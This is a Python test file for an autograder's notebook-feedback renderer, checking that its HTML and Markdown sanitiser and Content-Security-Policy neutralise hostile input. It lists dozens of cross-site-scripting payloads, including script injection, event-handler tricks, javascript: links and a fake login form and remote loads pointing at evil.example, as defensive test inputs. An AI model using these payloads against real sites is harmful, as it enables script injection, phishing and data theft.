"""Whoever wrote it and wherever it stands: nothing runs, loads, covers or imitates on the page."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import pytest
from tests.feedback.notebooks import (
    answer,
    check,
    code,
    error,
    findings,
    html,
    marked,
    marks,
    notebook,
    shows,
    stream,
    text,
)

from autograder.feedback.clean import clean
from autograder.feedback.markdown import render
from autograder.feedback.marks import Comment, Mark
from autograder.feedback.records import Names

SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/p.png'>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<svg onload=alert(1)><circle r=1></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='http://evil.example/'>",
    "<a href='javascript:alert(1)'>go</a>",
    "<a href=' JaVaScRiPt&colon;alert(1)'>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "<a href='file:///etc/passwd'>go</a>",
    "<form action='http://evil.example/'><input name=a><button>Log in</button></form>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "<p style='position:fixed;inset:0;background:url(http://evil.example/)'>cover</p>",
    "<div id=summary class=exercise onclick=alert(1)>100 of 100 points</div>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href='//evil.example/'>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details ontoggle=alert(1) open><summary>s</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "</div></main></body></html><script>alert(1)</script>",
    "</style></title></textarea></pre>--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
)
# Markdown and LaTeX reach HTML by other ways.
MARKUP = (
    "[go](javascript:alert(1))",
    "[go](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/p.png)",
    '![x](data:image/svg+xml;utf8,<svg onload="alert(1)"/>)',
    "![<img src=x onerror=alert(1)>](x.png)",
    "<javascript:alert(1)>",
    "$</code><script>alert(1)</script>$",
    "$$\\href{javascript:alert(1)}{<img src=x onerror=alert(1)>}$$",
    "\\begin{align}<script>alert(1)</script>\\end{align}",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
)

TAGS = set(re.findall(r"\w+", """
    html head meta title style body header nav main section footer h1 h2 h3 h4 h5 h6 p div span a
    ul ol li strong em b i s del sub sup code pre table thead tbody tr th td details summary img
    svg rect line blockquote hr br
"""))  # fmt: skip


class Reader(HTMLParser):
    """Collects what a browser would find on the page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            said = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.found.append(f"{tag} {name}={said}")
            if name in ("src", "data", "poster", "background", "xlink:href"):
                fine = re.match(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,", said)
                self.found += [] if fine else [f"{tag} {name}={said}"]
            if name == "href" and not said.startswith(("https://", "http://", "mailto:", "#")):
                self.found.append(f"{tag} {name}={said}")


def dangers(page: str) -> list[str]:
    reader = Reader()
    reader.feed(page)
    reader.close()
    return reader.found


def test_the_reader_finds_dangers() -> None:
    for payload in PAYLOADS[:3]:
        assert dangers(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_is_harmless(payload: str) -> None:
    cleaned = str(clean(payload))
    assert dangers(cleaned) == []
    assert str(clean(cleaned, headings_below=0)) == cleaned or "scroll" in cleaned


@pytest.mark.parametrize("payload", PAYLOADS + MARKUP)
def test_markdown_is_harmless(payload: str) -> None:
    assert dangers(str(render(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS + MARKUP)
def test_the_page_is_harmless_wherever_a_payload_stands(payload: str) -> None:
    bundle = shows(text__html=payload, text__plain=payload)
    nb = notebook(
        text(f"# {payload}"),
        text(f"## Exercise {payload}", **marked("t", locked=True)),
        text(payload, **marked("task", task=True, points=2)),
        text(payload, attachments={}),
        answer("f", f"def f():\n    {payload!r}\n{payload}", bundle, stream(payload), count=1),
        code(payload, shows(text__markdown=payload), shows(text__latex=payload), count=2),
        code(payload, shows(application__json={"a": payload}), stream(payload, "stderr"), count=3),
        code("f()", error(payload, payload, (4, 1)), count=4),
        code("f()", error("ValueError", payload, (1, 1)), count=5),
        check(f"c {payload}", f"# {payload}\n{payload}", error(payload, payload, (1, 1))),
        check("d", payload, findings(
            hints=[payload], critical=[payload],
            concepts=[{"title": payload, "hint": payload, "holds": False, "points": 1}],
        )),
        autograder={"broken": payload, "remarks": [payload]},
        language_info={"name": payload},
    )  # fmt: skip
    nb.cells[2].attachments = {payload: {"image/png": payload}}
    page = html(
        nb,
        marks({"gone" + payload: Mark(3)}, {"f": payload, "task": Comment(payload, False)}),
        Names(payload, payload, payload),
    )
    assert dangers(page) == []
    assert page.count("<script") == 0
    assert page.count("<style>") == 1
    assert page.count("</main>") == page.count("</body>") == 1


def test_the_policy_forbids_scripts_and_loading() -> None:
    page = html(notebook())
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert "img-src data:" in policy
    assert "unsafe" not in policy
    assert page.index("Content-Security-Policy") < page.index("<style>")


def test_pictures_stay_as_pictures() -> None:
    drawn = html(notebook(code("draw()", shows(**{"image__svg+xml": SVG}))))
    packed = base64.b64encode(SVG.encode()).decode()
    assert f"base64,{packed}" in drawn
    assert "onload" not in drawn
    shown = html(notebook(code("draw()", shows(image__png=PIXEL, text__plain="<Figure at 0x7f>"))))
    assert PIXEL in shown
    assert "0x7f" not in shown
    assert 'alt="A picture' in shown


def test_an_attachment_is_shown() -> None:
    cell = text("![A dot](attachment:dot.png)")
    cell.attachments = {"dot.png": {"image/png": PIXEL}}
    page = html(notebook(cell))
    assert re.search(r'<img src="data:image/png;base64,[^"]+" alt="A dot">', page)
    assert "is not shown" in html(notebook(text("![](attachment:none.png)")))


def test_tables_and_code_scroll_in_boxes_that_take_the_focus() -> None:
    cleaned = str(clean("<table><tr><th>a</th></tr><tr><td>b</td></tr></table><pre>c</pre>"))
    assert cleaned.count('<div class="scroll" tabindex="0" role="group" aria-label="') == 2
    nested = str(clean("<table><tr><td><table><tr><td>b</td></tr></table></td></tr></table>"))
    assert nested.count("tabindex") == 1
    assert nested.count("<div") == nested.count("</div>")


def test_headings_of_others_stand_below_the_pages_own() -> None:
    assert str(clean("<h1>a</h1><h6>b</h6>")) == "<h4>a</h4><h6>b</h6>"


def test_pictures_have_an_alternative_text() -> None:
    assert str(clean(f'<img src="data:image/png;base64,{PIXEL}">')).endswith('alt="">')


def test_formulas_are_shown_as_their_source() -> None:
    rendered = str(render("The sum $x_i < i^2$ and\n\n$$\\frac{a}{b}$$"))
    assert '<code class="math">x_i &lt; i^2</code>' in rendered
    assert '<code class="block-math">\\frac{a}{b}</code>' in rendered


@pytest.mark.parametrize(
    "source",
    [
        *(part * 30_000 for part in ("<div>", "<b>", "[", "> ", "*a ", "`", "$", "- ")),
        "<table><tr><td>" * 5_000,
        "<a href='" * 10_000,
    ],
)
@pytest.mark.timeout(60)
def test_what_is_deep_or_long_ends_soon(source: str) -> None:
    assert dangers(str(render(source))) == []
    assert dangers(str(clean(source))) == []
